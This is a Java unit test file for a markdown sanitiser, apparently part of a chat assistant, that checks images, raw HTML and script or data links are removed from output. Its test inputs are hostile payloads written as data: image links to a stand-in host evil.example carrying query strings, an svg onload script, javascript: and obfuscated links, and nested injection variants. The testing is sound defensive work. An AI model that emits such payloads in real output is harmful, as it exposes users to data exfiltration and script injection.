package io.qubinode.mcp.assistant.chat;

import static org.assertj.core.api.Assertions.assertThat;

import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HarmlessMarkdownTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '"',
            value = {
                "See ![logo](https://evil.example/?k=s) here. ~ See logo here.",
                "![a ![b](https://evil.example/1) c](https://evil.example/2) ~ a b c",
                "[![logo](https://evil.example/p)](https://good.example) ~ [logo](https://good.example)",
                "See <svg onload=alert(1)><image href='//evil.example'/></svg>. ~ See .",
                "Play <video src='https://evil.example/'></video> it. ~ Play  it.",
                "[press](javascript:alert(1)) ~ press",
                "[press](//evil.example) ~ press",
                "<javascript:alert(1)> ~ javascript:alert(1)",
                "Run `kcli delete vm <name>`, or kcli delete vm <vm-name>. ~ Run `kcli delete vm <name>`, or kcli delete vm <vm-name>.",
                "Code `![x](y) <img>` stays [1], *so* does | a | table. ~ Code `![x](y) <img>` stays [1], *so* does | a | table.",
                "[the page](docs/a.md#b) and <https://good.example> ~ [the page](docs/a.md#b) and <https://good.example>",
            })
    void keepsWordsAndTakesOutWhatWouldBeFetchedOrRun(String markdown, String harmless) {
        assertThat(HarmlessMarkdown.of(markdown)).isEqualTo(harmless);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![logo][1]\n\n[1]: https://evil.example/?k=s",
                "![logo]\n\n[logo]: https://evil.example/?k=s",
                "> ![two\n> lines](https://evil.example/)\n> more",
                "![`![x](https://evil.example/)`](https://evil.example/)",
                "![`` ![`![x](https://evil.example/)`](https://evil.example/) ``](https://evil.example/)",
                "<im<img>g src=https://evil.example/>",
                "<div>&lt;img src='https://evil.example/'&gt;</div>",
                "<iframe src='https://evil.example/'>\n",
                "<!-- --><img src='https://evil.example/'>",
                "- <picture>\n  <source srcset='https://evil.example/'>\n  </picture>",
                "[x](<java\tscript:alert(1)>)",
                "[x](data:text/html;base64,AAAA)",
                "!\\[x](https://evil.example/) ![y\\](https://evil.example/)](https://evil.example/)",
                "<details><summary>a</summary>\n\n![x](https://evil.example/)\n\n</details>",
            })
    void leavesNothingBehind(String markdown) {
        assertHarmless(HarmlessMarkdown.of(markdown));
        assertThat(HarmlessMarkdown.of(HarmlessMarkdown.of(markdown))).isEqualTo(HarmlessMarkdown.of(markdown));
    }

    @Test
    void endsForAnyNumberOfLayers() {
        String layers = "![x](https://evil.example/)";
        for (int ticks = 1; ticks < 20; ticks++) {
            layers = "![" + "`".repeat(ticks) + " " + layers + " " + "`".repeat(ticks) + "](https://evil.example/)";
        }
        assertHarmless(HarmlessMarkdown.of(layers));
    }

    @Test
    void takesAPieceLiterallyWhateverIsAroundIt() {
        String raw = "a\\![x](https://evil.example/) <img src='https://evil.example/'>";
        for (int cut = 0; cut <= raw.length(); cut++) {
            String told =
                    HarmlessMarkdown.literal(raw.substring(0, cut)) + HarmlessMarkdown.literal(raw.substring(cut));
            assertHarmless(told);
        }
    }

    private static void assertHarmless(String markdown) {
        Parser.builder().build().parse(markdown).accept(new AbstractVisitor() {

            @Override
            public void visit(Image image) {
                throw new AssertionError("a picture is left: " + markdown);
            }

            @Override
            public void visit(HtmlInline html) {
                throw new AssertionError("HTML is left: " + markdown);
            }

            @Override
            public void visit(HtmlBlock html) {
                throw new AssertionError("HTML is left: " + markdown);
            }

            @Override
            public void visit(Link link) {
                assertThat(link.getDestination()).doesNotContainIgnoringCase("script:", "data:");
                visitChildren(link);
            }
        });
    }
}
